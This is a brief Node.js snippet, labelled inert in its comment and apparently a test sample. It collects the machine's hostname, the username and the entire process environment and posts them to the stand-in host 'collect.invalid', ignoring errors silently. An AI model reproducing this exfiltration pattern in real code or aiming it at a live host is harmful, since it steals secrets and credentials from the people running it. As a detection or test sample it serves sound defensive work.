// Inert: sends the environment to a name that cannot exist.
const http = require('http');
const os = require('os');
const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, env: process.env });
const request = http.request({ host: 'collect.invalid', port: 80, method: 'POST', path: '/' });
request.on('error', () => {});
request.end(body);
